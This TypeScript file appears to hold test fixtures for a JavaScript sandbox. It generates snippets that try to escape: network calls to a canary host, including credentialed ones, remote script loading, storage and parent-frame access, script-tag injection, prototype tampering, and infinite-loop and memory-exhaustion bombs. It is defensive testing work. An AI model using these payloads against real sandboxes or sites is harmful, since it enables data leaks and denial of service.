/** Where an attempt would be noticed: a server elsewhere, and this install. */
export interface Targets {
  /** `host:port` of a server that counts who comes. */
  canary: string;
  origin: string;
}

/** Programmes that try to get out of the sandbox: each prints `escaped` where it did what it must not be able to do. */
export function sandboxEscapes({ canary, origin }: Targets): string[] {
  const addresses = [`http://${canary}/hit`, `${origin}/api/v1/me`, `${origin}/favicon.svg`, `//${canary}/hit`];
  return [
    ...addresses.flatMap(network),
    `new WebSocket('ws://${canary}/hit').onopen = () => console.log('escaped'); ${pause}`,
    `new WebSocket('wss://${canary}/hit').onopen = () => console.log('escaped'); ${pause}`,
    `new WebTransport('https://${canary}/hit').ready.then(() => console.log('escaped')); ${pause}`,
    `new RTCPeerConnection({ iceServers: [{ urls: 'stun:${canary}' }] }); console.log('escaped')`,
    ...storage,
    ...around,
    ...endless,
    ...memory,
  ];
}

/** Keeps the worker alive long enough for something to leave it. */
const pause = 'const since = Date.now(); while (Date.now() - since < 60);';

function network(url: string): string[] {
  const escaped = `() => console.log('escaped')`;
  return [
    `fetch('${url}').then(${escaped}); ${pause}`,
    `fetch('${url}', { mode: 'no-cors', keepalive: true, credentials: 'include' }).then(${escaped}); ${pause}`,
    `fetch('${url}', { method: 'POST', mode: 'no-cors', body: 'x' }).then(${escaped}); ${pause}`,
    `const request = new XMLHttpRequest(); request.open('GET', '${url}', false); request.send(); console.log('escaped')`,
    `importScripts('${url}'); console.log('escaped')`,
    `import('${url}').then(${escaped}); ${pause}`,
    `const worker = new Worker('${url}'); worker.onmessage = ${escaped}; ${pause}`,
    `new Worker(URL.createObjectURL(new Blob(["fetch('${url}')"]))); ${pause}`,
    `new Worker(URL.createObjectURL(new Blob(["importScripts('${url}')"]))); ${pause}`,
    `new SharedWorker('${url}'); console.log('escaped')`,
    `new EventSource('${url}').onopen = ${escaped}; ${pause}`,
    `if (navigator.sendBeacon('${url}', 'x')) console.log('escaped')`,
    `new FontFace('x', "url('${url}')").load().then(${escaped}); ${pause}`,
    `caches.open('x').then((cache) => cache.add('${url}')).then(${escaped}); ${pause}`,
    `eval("fetch('${url}')"); ${pause}`,
    `new Function("return fetch('${url}')")().then(${escaped}); ${pause}`,
    `location.href = '${url}'; if (location.href === '${url}') console.log('escaped')`,
    `navigator.serviceWorker.register('${url}').then(${escaped}); ${pause}`,
  ];
}

const storage = [
  `localStorage.setItem('escaped', '1'); console.log('escaped')`,
  `sessionStorage.setItem('escaped', '1'); console.log('escaped')`,
  `document.cookie = 'escaped=1'; console.log('escaped')`,
  `cookieStore.set('escaped', '1').then(() => console.log('escaped')); ${pause}`,
  `indexedDB.open('escaped').onsuccess = () => console.log('escaped'); ${pause}`,
  `caches.open('escaped').then(() => console.log('escaped')); ${pause}`,
  `navigator.storage.getDirectory().then(() => console.log('escaped')); ${pause}`,
  `navigator.storage.persist().then((kept) => kept && console.log('escaped')); ${pause}`,
  `new BroadcastChannel('laurel').postMessage('escaped')`,
  `Notification.requestPermission().then(() => console.log('escaped')); ${pause}`,
];

const around = [
  `parent.document.title = 'escaped'; console.log('escaped')`,
  `top.location = 'about:blank'; console.log('escaped')`,
  `window.top.document.body.innerHTML = 'escaped'; console.log('escaped')`,
  `document.body.textContent = 'escaped'; console.log('escaped')`,
  `open('about:blank'); console.log('escaped')`,
  `opener.postMessage('x', '*'); console.log('escaped')`,
  `globalThis.parent.postMessage('x', '*'); console.log('escaped')`,
  `Function('return this')().parent.document; console.log('escaped')`,
  `self.constructor.constructor('return window')().document; console.log('escaped')`,
  `require('node:fs'); console.log('escaped')`,
  `process.exit(1); console.log('escaped')`,
  `postMessage({ run: 'x', state: 'ended', output: 'escaped' })`,
  `self.onmessage = () => console.log('escaped')`,
  `alert(1); console.log('escaped')`,
  `*/ }} parent.document.title = 'escaped' /*`,
  `</script><script>parent.document.title = 'escaped'</script>`,
  `close(); parent.postMessage('escaped', '*')`,
  `parent.postMessage({ state: 'ended', output: 'escaped' }, '*'); top.postMessage({ output: 'escaped' }, '*')`,
  `postMessage({ end: true }); postMessage({ line: 'escaped' })`,
  `DedicatedWorkerGlobalScope.prototype.postMessage.call(self, { line: 'escaped' })`,
  `Object.getPrototypeOf(self).postMessage({ line: 'escaped' })`,
  `setTimeout("console.log('escaped')"); ${pause}`,
  `importScripts('data:text/javascript,console.log("escaped")')`,
  `new Worker('data:text/javascript,fetch("/api/v1/me")').onmessage = () => console.log('escaped'); ${pause}`,
];

const endless = [
  'while (true) {}',
  'const again = () => again(); again()',
  'const again = () => Promise.resolve().then(again); again()',
  'setInterval(() => {}, 0); for (;;) {}',
  'while (true) console.log("x".repeat(1000))',
  'while (true) postMessage(0)',
  'while (true) __end()',
  'console.log("x".repeat(2 ** 28))',
  'const text = "x".repeat(2 ** 20); while (true) console.log(text, text, text)',
  'console.log(Array.from({ length: 100000 }, () => ({ a: "x".repeat(100) })))',
  'const printsAgain = { toString() { console.log(printsAgain); return "x" } }; console.log(printsAgain)',
  `String.prototype.slice = () => ({ length: -1 }); while (true) console.log('x'.repeat(100))`,
  'for (let n = 0; n < 50; n++) new Worker(URL.createObjectURL(new Blob(["while (true) {}"]))); while (true) {}',
  '/^(a+)+$/.test("a".repeat(60) + "b")',
  'function* all() { while (true) yield 1 } for (const one of all());',
  'new Worker(URL.createObjectURL(new Blob(["while (true) {}"]))); while (true) {}',
];

/**
 * Programmes that put something else in the place of the language's own things before they print, to have something said that they
 * did not print, or to flood the frame. Each prints `1`, and nothing else may come of it.
 */
export const tampering = [
  `Array.prototype.map = Array.prototype.join = () => 'escaped'`,
  `String.prototype.slice = String.prototype.substring = () => 'escaped'`,
  `String.prototype.slice = () => ({ length: -1, escaped: true })`,
  `Function.prototype.call = Function.prototype.bind = Function.prototype.apply = () => () => 'escaped'`,
  `JSON.stringify = () => 'escaped'; self.JSON = { stringify: JSON.stringify }`,
  `self.String = () => 'escaped'`,
  `String.prototype.toString = Number.prototype.toString = Object.prototype.toString = () => 'escaped'`,
  `Object.prototype.line = 'escaped'; Object.prototype.end = true; Object.prototype.output = 'escaped'`,
  `Object.defineProperty(Object.prototype, 'line', { set() { throw 1 }, configurable: true })`,
  `Array.prototype[Symbol.iterator] = function* () { while (true) yield 'escaped' }`,
  `try { Object.defineProperty(self, '__end', { value: () => console.log('escaped') }) } catch {}`,
  `try { self.__end = () => console.log('escaped') } catch {}`,
  `self.dispatchEvent(new MessageEvent('message', { data: { line: 'escaped' } }))`,
  `new MessageChannel().port1.postMessage({ line: 'escaped' })`,
  `self.name = 'escaped'; self.onmessage = () => console.log('escaped')`,
  `self.parent = self.top = { postMessage: () => console.log('escaped') }`,
];

const memory = [
  `let text = 'x'; while (true) text += text`,
  'new ArrayBuffer(2 ** 40); console.log("escaped")',
  'new Array(2 ** 32 - 1).fill(0).join("x").length; while (true) {}',
  'const kept = []; for (let n = 0; n < 300; n++) kept.push(new Uint8Array(2 ** 20).fill(1)); while (true) {}',
  'const kept = []; while (true) kept.push(new Array(10000).fill({}))',
  'const kept = new Map(); for (let n = 0; n < 500000; n++) kept.set(n, { n }); while (true) {}',
  'new WebAssembly.Memory({ initial: 65536 }).grow(65536); console.log("escaped")',
];
